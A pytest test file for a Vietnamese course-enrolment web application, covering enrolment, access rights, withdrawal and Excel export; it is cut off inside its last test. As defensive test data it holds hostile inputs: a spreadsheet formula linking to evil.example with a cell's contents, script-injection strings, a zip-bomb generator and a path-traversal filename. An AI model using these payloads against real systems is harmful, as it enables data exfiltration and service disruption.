"""Enrolling people (five ways), withdrawing them, the learners list and its Excel export."""

from __future__ import annotations

import io
import re
import threading
import zipfile
from datetime import date, timedelta
from urllib.parse import quote

import openpyxl
import pytest
import sqlalchemy as sa
from sqlalchemy.exc import IntegrityError

from courses import learners, services
from courses.models import Course, Enrolment, EnrolmentSource, EnrolmentStatus, Lesson
from lms.db import db
from lms.models import AuditEntry, Person, TitleKind, Unit
from lms.views.common import today
from tests.conftest import TEST_PASSWORD, count_rows
from tests.courses.conftest import NOW

# -- the world ------------------------------------------------------------------------------

@pytest.fixture
def world(make_unit, make_person, trainer, make_course):
    root = make_unit(name="Sở Tư pháp", code="STP", kind="department")
    district = make_unit(name="Phòng Tư pháp huyện Đông Anh", code="PDA", kind="district", parent=root)
    commune = make_unit(name="Xã Cổ Loa", code="XCL", kind="commune", parent=district)
    other = make_unit(name="Sở Y tế", code="SYT", kind="department")
    people = {
        "an": make_person(name="Nguyễn Văn An", email="an@example.vn", unit=district, key_cadre=True,
                          category="legal_reporter"),
        "binh": make_person(name="Trần Thị Bình", email="binh@example.vn", unit=commune),
        "cuong": make_person(name="Lê Văn Cường", email="cuong@example.vn", unit=other, key_cadre=True),
        "dung": make_person(name="Phạm Dũng", email="dung@example.vn", unit=root, category="legal_reporter"),
    }
    ua = make_person(name="Hoàng Quản Trị", email="ua@example.vn", unit=district, roles=("unit_admin",))
    student = make_person(name="Vũ Học Viên", email="hv@example.vn", unit=other)
    course = make_course("Quyền trẻ em")
    return {"root": root, "district": district, "commune": commune, "other": other, "ua": ua, "student": student,
            "course": course, **people}


def login(app, email):
    client = app.test_client()
    response = client.post("/login", data={"email": email, "password": TEST_PASSWORD})
    assert response.status_code == 302, email
    return client


def enrolled(course) -> dict[int, Enrolment]:
    db.session.expire_all()
    return {e.person_id: e for e in db.session.scalars(sa.select(Enrolment).where(Enrolment.course_id == course.id))}


def url(course, suffix="learners/enrol"):
    return f"/courses/{course.id}/{suffix}"


def xlsx(rows) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def text_of(response) -> str:
    return response.get_data(as_text=True)


# -- the five ways ----------------------------------------------------------------------------

def test_search_ignores_diacritics_and_enrols_the_people_ticked(app, world, trainer):
    client = login(app, trainer.email)
    page = client.get(url(world["course"]) + "?q=nguyen van an")
    assert page.status_code == 200
    assert "Nguyễn Văn An" in text_of(page) and "Trần Thị Bình" not in text_of(page)

    due = today() + timedelta(days=30)
    response = client.post(url(world["course"]), data={
        "mode": "people", "people-people": [str(world["an"].id), str(world["binh"].id)],
        "people-due_on": due.isoformat()})
    assert response.status_code == 302 and response.location.endswith(url(world["course"], "learners"))
    rows = enrolled(world["course"])
    assert set(rows) == {world["an"].id, world["binh"].id}
    assert all(e.source == EnrolmentSource.INDIVIDUAL and e.due_on == due for e in rows.values())
    assert all(e.enrolled_by_id == trainer.id for e in rows.values())
    summary = text_of(client.get(response.location))
    assert "đã ghi danh 2, đã có 0, không được phép 0" in summary

    again = client.post(url(world["course"]), data={"mode": "people", "people-people": [str(world["an"].id)]},
                        follow_redirects=True)
    assert "đã ghi danh 0, đã có 1, không được phép 0" in text_of(again)
    assert len(enrolled(world["course"])) == 2


def test_search_result_marks_people_already_enrolled(app, world, trainer):
    services.enrol_people(db.session, trainer, world["course"], [world["an"].id], EnrolmentSource.INDIVIDUAL, None,
                          NOW)
    db.session.commit()
    page = text_of(login(app, trainer.email).get(url(world["course"]) + "?q=an@example"))
    assert re.search(rf'id="pick-{world["an"].id}"\s+disabled', page)
    assert "Đang học" in page


def test_enrol_everyone_in_a_unit_subtree(app, world, trainer):
    client = login(app, trainer.email)
    response = client.post(url(world["course"]), data={"mode": "unit", "unit-unit": str(world["district"].id)})
    assert response.status_code == 302
    rows = enrolled(world["course"])
    assert set(rows) == {world["an"].id, world["binh"].id, world["ua"].id}  # district and the commune below
    assert {e.source for e in rows.values()} == {EnrolmentSource.UNIT}


def test_enrol_a_learner_category(app, world, trainer):
    client = login(app, trainer.email)
    response = client.post(url(world["course"]), data={"mode": "category", "category-category": "title:legal_reporter",
                                                       "category-unit": "0"})
    assert response.status_code == 302
    assert set(enrolled(world["course"])) == {world["an"].id, world["dung"].id}
    # within a unit
    db.session.execute(sa.delete(Enrolment))
    db.session.commit()
    client.post(url(world["course"]), data={"mode": "category", "category-category": "title:legal_reporter",
                                            "category-unit": str(world["district"].id)})
    rows = enrolled(world["course"])
    assert set(rows) == {world["an"].id} and rows[world["an"].id].source == EnrolmentSource.CATEGORY


def test_enrol_key_cadres_only(app, world, trainer):
    client = login(app, trainer.email)
    assert client.post(url(world["course"]), data={"mode": "key_cadres", "key-unit": "0"}).status_code == 302
    assert set(enrolled(world["course"])) == {world["an"].id, world["cuong"].id}
    db.session.execute(sa.delete(Enrolment))
    db.session.commit()
    client.post(url(world["course"]), data={"mode": "key_cadres", "key-unit": str(world["root"].id)})
    rows = enrolled(world["course"])
    assert set(rows) == {world["an"].id} and rows[world["an"].id].source == EnrolmentSource.KEY_CADRES


def test_enrol_from_an_excel_list_reports_unknown_addresses_by_row(app, world, trainer):
    content = xlsx([["Danh sách lớp"], ["Họ và tên", "Thư điện tử"], ["An", "AN@example.vn "],
                    ["Ai đó", "khong-co@example.vn"], ["Cường", "cuong@example.vn"], ["", "không phải thư"]])
    client = login(app, trainer.email)
    due = today() + timedelta(days=10)
    response = client.post(url(world["course"]), data={
        "mode": "file", "file-file": (io.BytesIO(content), "lớp.xlsx"), "file-due_on": due.isoformat()},
        content_type="multipart/form-data")
    # a list is enrolled by a background job (at once in the tests); its page tells what happened
    assert response.status_code == 302 and "/jobs/" in response.location
    page = text_of(client.get(response.location))
    assert "đã ghi danh 2, đã có 0, không được phép 2" in page
    assert "Dòng 4 (khong-co@example.vn): Không có người dùng nào với thư điện tử này." in page
    assert re.search(r"Dòng 6 \(không phải thư\): [^<]*không hợp lệ", page)
    rows = enrolled(world["course"])
    assert set(rows) == {world["an"].id, world["cuong"].id}
    assert {e.source for e in rows.values()} == {EnrolmentSource.IMPORT} and rows[world["an"].id].due_on == due


def test_enrol_from_a_csv_list(app, world, trainer):
    content = b"email\nbinh@example.vn\ndung@example.vn\n"
    response = login(app, trainer.email).post(url(world["course"]), data={
        "mode": "file", "file-file": (io.BytesIO(content), "list.csv")}, content_type="multipart/form-data")
    assert response.status_code == 302
    assert set(enrolled(world["course"])) == {world["binh"].id, world["dung"].id}


def test_a_list_where_nobody_can_be_enrolled_changes_nothing(app, world, trainer):
    content = xlsx([["Thư điện tử"], ["nobody@example.vn"]])
    response = login(app, trainer.email).post(url(world["course"]), data={
        "mode": "file", "file-file": (io.BytesIO(content), "x.xlsx")}, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "Không ghi danh được ai từ tệp này" in text_of(response)
    assert "nobody@example.vn" in text_of(response)
    assert count_rows(Enrolment) == 0


def test_withdrawn_person_enrolled_again_becomes_active(app, world, trainer):
    client = login(app, trainer.email)
    client.post(url(world["course"]), data={"mode": "people", "people-people": [str(world["an"].id)]})
    enrolment = enrolled(world["course"])[world["an"].id]
    client.post(url(world["course"], f"enrolments/{enrolment.id}/withdraw"))
    assert enrolled(world["course"])[world["an"].id].status == EnrolmentStatus.WITHDRAWN
    response = client.post(url(world["course"]), data={"mode": "people", "people-people": [str(world["an"].id)]},
                           follow_redirects=True)
    assert "đã ghi danh 1" in text_of(response)
    assert enrolled(world["course"])[world["an"].id].status == EnrolmentStatus.ACTIVE


# -- who may -------------------------------------------------------------------------------

def test_unit_admin_enrols_only_people_of_their_subtree(app, world):
    client = login(app, world["ua"].email)
    course = world["course"]
    page = text_of(client.get(url(course) + "?q=van"))
    assert "Nguyễn Văn An" in page and "Lê Văn Cường" not in page  # search is scoped
    assert "Sở Y tế" not in page  # and so are the unit choices

    refused = client.post(url(course), data={"mode": "people", "people-people": [str(world["cuong"].id)]})
    assert refused.status_code == 422 and "Không ghi danh được ai" in text_of(refused)
    assert count_rows(Enrolment) == 0

    mixed = client.post(url(course), data={"mode": "people",
                                           "people-people": [str(world["an"].id), str(world["cuong"].id)]},
                        follow_redirects=True)
    assert "đã ghi danh 1, đã có 0, không được phép 1" in text_of(mixed)
    assert set(enrolled(course)) == {world["an"].id}

    outside = client.post(url(course), data={"mode": "unit", "unit-unit": str(world["other"].id)})
    assert outside.status_code == 422 and "Lựa chọn không hợp lệ" in text_of(outside)

    client.post(url(course), data={"mode": "key_cadres", "key-unit": "0"})  # "everywhere" = their subtree
    assert world["cuong"].id not in enrolled(course)

    content = xlsx([["Thư điện tử"], ["binh@example.vn"], ["cuong@example.vn"]])
    response = client.post(url(course), data={"mode": "file", "file-file": (io.BytesIO(content), "x.xlsx")},
                           content_type="multipart/form-data")
    assert response.status_code == 302
    assert "Dòng 3 (cuong@example.vn): Người này không thuộc đơn vị bạn quản lý." in text_of(
        client.get(response.location))
    assert set(enrolled(course)) == {world["an"].id, world["binh"].id}


def test_unit_admin_cannot_enrol_into_a_draft(app, world, make_course):
    draft = make_course("Bản nháp", publish=False)
    client = login(app, world["ua"].email)
    assert client.get(url(draft)).status_code == 404
    response = client.post(url(draft), data={"mode": "people", "people-people": [str(world["an"].id)]})
    assert response.status_code == 404
    assert client.get(url(draft, "learners")).status_code == 404
    assert count_rows(Enrolment) == 0


def test_trainee_is_refused_everywhere(app, world, trainer):
    services.enrol_people(db.session, trainer, world["course"], [world["an"].id], EnrolmentSource.INDIVIDUAL, None,
                          NOW)
    db.session.commit()
    enrolment = enrolled(world["course"])[world["an"].id]
    client = login(app, world["student"].email)
    course = world["course"]
    assert client.get(url(course)).status_code == 403
    assert client.post(url(course), data={"mode": "people", "people-people": [str(world["student"].id)]}) \
        .status_code == 403
    assert client.get(url(course, "learners")).status_code == 403
    assert client.get(url(course, "learners.xlsx")).status_code == 403
    assert client.post(url(course, f"enrolments/{enrolment.id}/withdraw")).status_code == 403
    assert enrolled(course)[world["an"].id].status == EnrolmentStatus.ACTIVE and len(enrolled(course)) == 1


def test_another_trainers_course_is_refused_and_unchanged(app, world, make_person, make_course):
    other = make_person(name="Đỗ Giảng Viên", email="gv2@example.vn", roles=("trainer",))
    draft = make_course("Khóa của người khác", owner=other, publish=False)
    published = make_course("Khóa đã xuất bản của người khác", owner=other)
    services.enrol_people(db.session, other, published, [world["an"].id], EnrolmentSource.INDIVIDUAL, None, NOW)
    db.session.commit()
    enrolment = enrolled(published)[world["an"].id]
    client = login(app, "trainer@example.vn")
    before = count_rows(Enrolment), count_rows(AuditEntry)
    data = {"mode": "people", "people-people": [str(world["binh"].id)]}
    assert client.get(url(draft)).status_code == 404
    assert client.post(url(draft), data=data).status_code == 404
    assert client.get(url(draft, "learners")).status_code == 404
    assert client.get(url(published)).status_code == 403
    assert client.post(url(published), data=data).status_code == 403
    assert client.get(url(published, "learners")).status_code == 403
    assert client.get(url(published, "learners.xlsx")).status_code == 403
    assert client.post(url(published, f"enrolments/{enrolment.id}/withdraw")).status_code == 403
    assert client.get("/courses/999999/learners/enrol").status_code == 404
    assert (count_rows(Enrolment), count_rows(AuditEntry)) == before
    assert enrolled(published)[world["an"].id].status == EnrolmentStatus.ACTIVE


def test_co_trainer_may_enrol(app, world, make_person):
    from courses.models import CourseTrainer

    co = make_person(name="Giảng Viên Phụ", email="co@example.vn", roles=("trainer",))
    db.session.add(CourseTrainer(course_id=world["course"].id, person_id=co.id))
    db.session.commit()
    client = login(app, co.email)
    assert client.post(url(world["course"]), data={"mode": "unit", "unit-unit": str(world["other"].id)}) \
        .status_code == 302
    assert set(enrolled(world["course"])) == {world["cuong"].id, world["student"].id}


# -- one enrolment per person and course ---------------------------------------------------

def test_enrolling_twice_in_parallel_gives_one_enrolment(app, world, trainer):
    course_id, person_id, trainer_id = world["course"].id, world["an"].id, trainer.id
    if db.engine.dialect.name != "postgresql":
        for _ in range(2):
            services.enrol_people(db.session, trainer, world["course"], [person_id], EnrolmentSource.INDIVIDUAL,
                                  None, NOW)
        db.session.commit()
        assert len(enrolled(world["course"])) == 1
        return
    db.session.commit()
    barrier = threading.Barrier(2)
    results, errors = [], []

    def run():
        try:
            with app.app_context():
                session = db.session
                actor = session.get(Person, trainer_id)
                course = session.get(Course, course_id)
                barrier.wait(timeout=10)
                results.append(services.enrol_people(session, actor, course, [person_id],
                                                     EnrolmentSource.INDIVIDUAL, None, NOW))
                session.commit()
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=run) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert not errors, errors
    assert sorted(r.added for r in results) == [0, 1]
    assert sorted(r.already for r in results) == [0, 1]
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Enrolment).where(
        Enrolment.course_id == course_id, Enrolment.person_id == person_id)) == 1


def test_the_database_refuses_a_second_enrolment(app, world):
    course, person = world["course"], world["an"]
    db.session.add(Enrolment(course_id=course.id, person_id=person.id, source=EnrolmentSource.SELF))
    db.session.commit()
    db.session.add(Enrolment(course_id=course.id, person_id=person.id, source=EnrolmentSource.UNIT))
    with pytest.raises(IntegrityError):
        db.session.commit()
    db.session.rollback()
    assert count_rows(Enrolment) == 1


# -- withdrawing ----------------------------------------------------------------------------

def test_withdraw(app, world, trainer, make_course):
    course = world["course"]
    other_course = make_course("Công ước CEDAW", conventions=("CEDAW",))
    for c in (course, other_course):
        services.enrol_people(db.session, trainer, c, [world["an"].id, world["cuong"].id],
                              EnrolmentSource.INDIVIDUAL, None, NOW)
    db.session.commit()
    mine, foreign = enrolled(course)[world["an"].id], enrolled(other_course)[world["an"].id]
    client = login(app, trainer.email)
    # an enrolment of another course in the URL
    assert client.post(url(course, f"enrolments/{foreign.id}/withdraw")).status_code == 404
    assert client.post(url(course, "enrolments/999999/withdraw")).status_code == 404
    assert client.get(url(course, f"enrolments/{mine.id}/withdraw")).status_code == 405
    assert enrolled(other_course)[world["an"].id].status == EnrolmentStatus.ACTIVE

    response = client.post(url(course, f"enrolments/{mine.id}/withdraw"), follow_redirects=True)
    assert "Đã rút tên Nguyễn Văn An khỏi khóa học." in text_of(response)
    withdrawn = enrolled(course)[world["an"].id]
    assert withdrawn.status == EnrolmentStatus.WITHDRAWN and withdrawn.withdrawn_at is not None

    # a unit administrator cannot withdraw someone outside their subtree (nor see them)
    cuong = enrolled(course)[world["cuong"].id]
    ua = login(app, world["ua"].email)
    assert ua.post(url(course, f"enrolments/{cuong.id}/withdraw")).status_code == 404
    assert enrolled(course)[world["cuong"].id].status == EnrolmentStatus.ACTIVE
    # ... but may withdraw someone of their subtree
    services.enrol_people(db.session, trainer, course, [world["binh"].id], EnrolmentSource.UNIT, None, NOW)
    db.session.commit()
    binh = enrolled(course)[world["binh"].id]
    assert ua.post(url(course, f"enrolments/{binh.id}/withdraw")).status_code == 302
    assert enrolled(course)[world["binh"].id].status == EnrolmentStatus.WITHDRAWN


def test_a_completed_enrolment_is_not_withdrawn(app, world, trainer):
    course = world["course"]
    services.enrol_people(db.session, trainer, course, [world["an"].id], EnrolmentSource.INDIVIDUAL, None, NOW)
    for lesson in db.session.scalars(sa.select(Lesson).where(Lesson.course_id == course.id)):
        services.mark_done(db.session, world["an"], lesson, NOW)
    db.session.commit()
    enrolment = enrolled(course)[world["an"].id]
    assert enrolment.status == EnrolmentStatus.COMPLETED
    response = login(app, trainer.email).post(url(course, f"enrolments/{enrolment.id}/withdraw"),
                                              follow_redirects=True)
    assert "đã hoàn thành khóa học; không rút tên được" in text_of(response)
    assert enrolled(course)[world["an"].id].status == EnrolmentStatus.COMPLETED


# -- the learners list ----------------------------------------------------------------------

@pytest.fixture
def class_of(world, trainer):
    """An, Bình, Cường, Dũng enrolled; An finished one lesson of two, Dũng both (completed)."""
    course = world["course"]
    services.enrol_people(db.session, trainer, course, [world[k].id for k in ("an", "binh", "cuong", "dung")],
                          EnrolmentSource.INDIVIDUAL, date(2030, 1, 31), NOW)
    lessons = list(db.session.scalars(sa.select(Lesson).where(Lesson.course_id == course.id).order_by(Lesson.id)))
    services.mark_done(db.session, world["an"], lessons[0], NOW)
    for lesson in lessons:
        services.mark_done(db.session, world["dung"], lesson, NOW)
    db.session.commit()
    return course


def test_learners_list_shows_progress_and_completion(app, world, trainer, class_of):
    page = text_of(login(app, trainer.email).get(url(class_of, "learners")))
    assert "Có 4 học viên." in page
    for name in ("Nguyễn Văn An", "Trần Thị Bình", "Lê Văn Cường", "Phạm Dũng"):
        assert name in page
    assert 'value="50"' in page and "1/2 bài bắt buộc" in page  # An
    assert 'value="100"' in page and "Đã hoàn thành" in page  # Dũng
    assert "10:00 01/03/2025" in page  # completed at 03:00 UTC, shown in Asia/Ho_Chi_Minh
    assert "31/01/2030" in page and "Ghi danh từng người" in page
    assert "Phòng Tư pháp huyện Đông Anh" in page


def test_learners_list_filters(app, world, trainer, class_of):
    client = login(app, trainer.email)
    by_unit = text_of(client.get(url(class_of, "learners") + f"?unit={world['district'].id}"))
    assert "Có 2 học viên." in by_unit and "Trần Thị Bình" in by_unit and "Lê Văn Cường" not in by_unit
    by_status = text_of(client.get(url(class_of, "learners") + "?status=completed"))
    assert "Có 1 học viên." in by_status and "Phạm Dũng" in by_status
    by_name = text_of(client.get(url(class_of, "learners") + "?q=tran thi binh"))
    assert "Có 1 học viên." in by_name and "Trần Thị Bình" in by_name
    # nonsense filters are ignored, not errors
    odd = client.get(url(class_of, "learners") + "?unit=abc&status=<script>&page=-3&q=" + "x" * 500)
    assert odd.status_code == 200 and "<script>" not in text_of(odd)
    hostile = text_of(client.get(url(class_of, "learners") + "?q=%3Cscript%3Ealert(1)%3C/script%3E"))
    assert "<script>alert(1)" not in hostile and "Có 0 học viên." in hostile


def test_unit_admin_sees_only_learners_of_their_subtree(app, world, class_of):
    client = login(app, world["ua"].email)
    page = text_of(client.get(url(class_of, "learners")))
    assert "Có 2 học viên." in page and "Nguyễn Văn An" in page and "Trần Thị Bình" in page
    assert "Lê Văn Cường" not in page and "Phạm Dũng" not in page
    foreign_unit = text_of(client.get(url(class_of, "learners") + f"?unit={world['other'].id}"))
    assert "Lê Văn Cường" not in foreign_unit  # an out-of-scope unit filter is ignored, the scope stays
    book = openpyxl.load_workbook(io.BytesIO(client.get(url(class_of, "learners.xlsx")).data))
    names = {row[1] for row in data_rows(book.active)}
    assert names == {"Nguyễn Văn An", "Trần Thị Bình"}


def test_learners_list_runs_a_bounded_number_of_queries(app, world, trainer, make_person, class_of):
    client = login(app, trainer.email)
    statements: list[str] = []

    def count(conn, cursor, statement, *args):
        statements.append(statement)

    def measure() -> int:
        statements.clear()
        sa.event.listen(db.engine, "before_cursor_execute", count)
        try:
            assert client.get(url(class_of, "learners")).status_code == 200
        finally:
            sa.event.remove(db.engine, "before_cursor_execute", count)
        return len(statements)

    few = measure()
    extra = [make_person(unit=world["district"]).id for _ in range(15)]
    services.enrol_people(db.session, trainer, class_of, extra, EnrolmentSource.UNIT, None, NOW)
    db.session.commit()
    many = measure()
    assert many == few, (few, many)
    assert few <= 15
    print(f"learners list: {few} queries")


# -- the export -----------------------------------------------------------------------------

def data_rows(sheet):
    """The rows below the column headers ("STT" ...) of an exported sheet."""
    rows = list(sheet.iter_rows(values_only=True))
    start = next(n for n, row in enumerate(rows) if row and row[0] == "STT") + 1
    return rows[start:]


def test_export_reads_back_with_headers_rows_and_local_times(app, world, trainer, class_of):
    response = login(app, trainer.email).get(url(class_of, "learners.xlsx") + "?status=completed")
    assert response.status_code == 200
    assert response.mimetype == learners.XLSX_MIMETYPE
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''" + quote("Học viên - Quyền trẻ em.xlsx") in disposition
    assert "no-store" in response.headers["Cache-Control"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = [row for row in sheet.iter_rows(values_only=True) if any(v is not None for v in row)]
    # the official header block, the title, the column headers, one completed learner
    assert "SỞ TƯ PHÁP" in rows[0] and "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in rows[0]
    assert "Độc lập - Tự do - Hạnh phúc" in rows[1]
    assert rows[2][0] == "Danh sách học viên: Quyền trẻ em"
    assert list(rows[3]) == list(learners.HEADERS)
    assert len(rows) == 5
    assert sheet.freeze_panes == f"A{[r for r in sheet.iter_rows() if r[0].value == 'STT'][0][0].row + 1}"
    row = dict(zip(learners.HEADERS, rows[4], strict=False))
    assert row["Họ và tên"] == "Phạm Dũng" and row["Thư điện tử"] == "dung@example.vn"
    assert row["Đơn vị"] == "Sở Tư pháp" and row["Mã đơn vị"] == "STP"
    assert row["Trạng thái"] == "Đã hoàn thành" and row["Hình thức ghi danh"] == "Ghi danh từng người"
    assert row["Chức danh PBGDPL"] == "BCVPL" and row["Đối tượng"] is None and row["Cán bộ chủ chốt"] == "Không"
    assert row["Tiến độ (%)"] == 100 and row["Bài bắt buộc đã học"] == "2/2"
    assert row["Hạn hoàn thành"].date() == date(2030, 1, 31)
    assert row["Hoàn thành lúc"].strftime("%H:%M %d/%m/%Y") == "10:00 01/03/2025"  # Asia/Ho_Chi_Minh


def test_export_keeps_hostile_text_as_text(app, world, trainer, class_of):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    person = db.session.get(Person, world["an"].id)
    person.full_name = hostile  # e.g. a name that reached the database before validation existed
    person.email = "+cmd@example.vn"
    db.session.get(Unit, world["district"].id).name = "@SUM(1+1)"
    db.session.get(Course, class_of.id).title = "-2+3 \tTiêu đề"
    db.session.commit()
    response = login(app, trainer.email).get(url(class_of, "learners.xlsx"))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = book.active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    for value in (hostile, "+cmd@example.vn", "@SUM(1+1)", "Danh sách học viên: -2+3 \tTiêu đề"):
        assert value in cells, value
        # kept as typed, a string shown literally (Excel's quote prefix), never a formula
        assert cells[value].data_type == "s" and (cells[value].quotePrefix or value[0] not in "=+-@"), value
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    disposition = response.headers["Content-Disposition"]
    assert "\t" not in disposition and "\n" not in disposition


def test_export_filename_drops_characters_file_systems_refuse(app, world):
    course = world["course"]
    course.title = 'Luật "mới" / 2025: a\\b?'
    assert learners.export_filename(course) == "Học viên - Luật _mới_ _ 2025_ a_b_.xlsx"


# -- bad input ------------------------------------------------------------------------------

@pytest.mark.parametrize("data, message", [
    ({"mode": "people"}, "Vui lòng chọn ít nhất một người."),
    ({"mode": "people", "people-people": ["abc"]}, "Lựa chọn không hợp lệ."),
    ({"mode": "people", "people-people": ["-5"]}, "Lựa chọn không hợp lệ."),
    ({"mode": "people", "people-people": ["99999999999999999999"]}, "Lựa chọn không hợp lệ."),
    ({"mode": "people", "people-people": ["999999"]}, "Không ghi danh được ai"),
    ({"mode": "people", "people-people": ["{an}"], "people-due_on": "2025-13-45"}, "theo dạng ngày/tháng/năm"),
    ({"mode": "people", "people-people": ["{an}"], "people-due_on": "<script>alert(1)</script>"},
     "theo dạng ngày/tháng/năm"),
    ({"mode": "people", "people-people": ["{an}"], "people-due_on": "2001-01-01"},
     "Hạn hoàn thành không được ở trong quá khứ."),
    ({"mode": "unit", "unit-unit": "999999"}, "Lựa chọn không hợp lệ."),
    ({"mode": "unit", "unit-unit": "x"}, "Lựa chọn không hợp lệ."),
    ({"mode": "unit"}, "Lựa chọn không hợp lệ."),
    ({"mode": "category", "category-category": "<script>", "category-unit": "0"}, "Lựa chọn không hợp lệ."),
    ({"mode": "key_cadres", "key-unit": "{other}"}, "Không có ai để ghi danh"),
    ({"mode": "file"}, "Vui lòng chọn tệp danh sách để tải lên."),
    ({}, "Vui lòng chọn một cách ghi danh."),
    ({"mode": "<script>alert(1)</script>"}, "Vui lòng chọn một cách ghi danh."),
])
def test_bad_input_is_refused_with_a_message_and_no_change(app, world, trainer, data, message):
    # "other" (Sở Y tế) has a key cadre; remove him so that unit has none
    if data.get("key-unit") == "{other}":
        db.session.execute(sa.text("DELETE FROM key_cadre_periods"))
        db.session.commit()
    data = {k: ([v.format(an=world["an"].id) for v in value] if isinstance(value, list)
                else value.format(other=world["other"].id)) for k, value in data.items()}
    client = login(app, trainer.email)
    before = count_rows(Enrolment), count_rows(AuditEntry)
    response = client.post(url(world["course"]), data=data)
    assert response.status_code == 422
    page = text_of(response)
    assert message in page
    assert "<script>alert(1)" not in page
    assert (count_rows(Enrolment), count_rows(AuditEntry)) == before


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", "0" * (60 * 1024 * 1024))
    return buffer.getvalue()


def _with_formula() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Thư điện tử"])
    book.active.append(["=HYPERLINK(\"http://evil\",\"x\")"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("content, message", [
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64, "không phải là bảng tính"),
    (b"%PDF-1.4 not a list", "không phải là bảng tính"),
    (b"", "Tệp rỗng"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ".xls"),
    (b"PK\x03\x04 broken zip", "Không đọc được tệp bảng tính"),
    ("Họ và tên,Mã đơn vị\nAn,STP\n".encode(), "Thiếu cột bắt buộc: “Thư điện tử”"),
    ("Thư điện tử\n".encode(), "chưa có dòng dữ liệu"),
    (None, "Tệp có chứa công thức"),
    ("bomb", "Tệp nén bất thường"),
])
def test_hostile_or_unusable_files_are_refused(app, world, trainer, content, message):
    if content is None:
        content = _with_formula()
    elif content == "bomb":
        content = _zip_bomb()
    client = login(app, trainer.email)
    before = count_rows(Enrolment), count_rows(AuditEntry)
    response = client.post(url(world["course"]), data={
        "mode": "file", "file-file": (io.BytesIO(content), "../../etc/danh sách.xlsx")},
        content_type="multipart/form-data")
    assert response.status_code == 422
    assert message in text_of(response)
    assert (count_rows(Enrolment), count_rows(AuditEntry)) == before


def test_search_text_is_escaped(app, world, trainer):
    page = login(app, trainer.email).get(url(world["course"]) + "?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert page.status_code == 200
    assert "<script>alert(1)" not in text_of(page) and "&lt;script&gt;" in text_of(page)


def test_archived_course_refuses_enrolment(app, world, trainer):
    course = db.session.get(Course, world["course"].id)
    from courses.models import CourseStatus

    course.status = CourseStatus.ARCHIVED
    db.session.commit()
    response = login(app, trainer.email).post(url(course), data={"mode": "people",
                                                                  "people-people": [str(world["an"].id)]})
    assert response.status_code == 422 and "Khóa học đã lưu trữ" in text_of(response)
    assert count_rows(Enrolment) == 0


def test_people_for_a_course_editor_is_everyone(app, world, trainer):
    """A trainer manages no unit, but may enrol anyone into a course they edit."""
    everyone = db.session.scalars(services.people_for(db.session, trainer, title=TitleKind.LEGAL_REPORTER))
    assert everyone.all() == []  # no course: their (empty) unit scope applies
    editor = db.session.scalars(services.people_for(db.session, trainer, title=TitleKind.LEGAL_REPORTER,
                                                    course=world["course"]))
    assert set(editor) == {world["an"].id, world["dung"].id}


def test_state_changes_need_the_csrf_token(app_factory, make_person, make_course, trainer):
    from tests.conftest import csrf_from

    learner = make_person(name="Nguyễn Văn An", email="an@example.vn")
    course = make_course("Quyền trẻ em")
    db.session.commit()
    app = app_factory(WTF_CSRF_ENABLED=True)
    with app.app_context():
        course = db.session.get(Course, course.id)
        client = app.test_client()
        token = csrf_from(client.get("/login").get_data(as_text=True))
        client.post("/login", data={"email": trainer.email, "password": TEST_PASSWORD, "csrf_token": token})
        data = {"mode": "people", "people-people": [str(learner.id)]}
        assert client.post(url(course), data=data).status_code == 400
        assert count_rows(Enrolment) == 0
        page = client.get(url(course)).get_data(as_text=True)
        assert 'name="people-csrf_token"' in page
        token = csrf_from(page)
        assert client.post(url(course), data={**data, "csrf_token": token}).status_code == 302
        enrolment = enrolled(course)[learner.id]
        withdraw = url(course, f"enrolments/{enrolment.id}/withdraw")
        assert client.post(withdraw).status_code == 400
        learners_page = client.get(url(course, "learners")).get_data(as_text=True)
        assert f'action="{withdraw}"' in learners_page
        assert client.post(withdraw, data={"csrf_token": csrf_from(learners_page)}).status_code == 302
        assert enrolled(course)[learner.id].status == EnrolmentStatus.WITHDRAWN


def test_export_as_a_background_job_offers_the_file_to_its_owner_only(app, world, trainer, class_of, make_person):
    client = login(app, trainer.email)
    response = client.post(url(class_of, "learners/export"), data={"status": "completed"})
    assert response.status_code == 302 and "/jobs/" in response.location
    page = text_of(client.get(response.location))
    assert "Đã xuất 1 học viên." in page and "Tải tệp kết quả" in page
    download = client.get(response.location + "/file")
    assert download.status_code == 200 and download.mimetype == learners.XLSX_MIMETYPE
    assert "no-store" in download.headers["Cache-Control"]
    rows = data_rows(openpyxl.load_workbook(io.BytesIO(download.data)).active)
    assert [row[1] for row in rows] == ["Phạm Dũng"]
    other = make_person(email="other-trainer@example.vn", roles=("trainer",))
    assert login(app, other.email).get(response.location + "/file").status_code == 404


def test_an_exported_file_follows_the_current_rights_and_expires(app, world, trainer, class_of):
    from datetime import timedelta

    from lms.models import Job, RoleAssignment

    client = login(app, world["ua"].email)
    response = client.post(url(class_of, "learners/export"), data={})
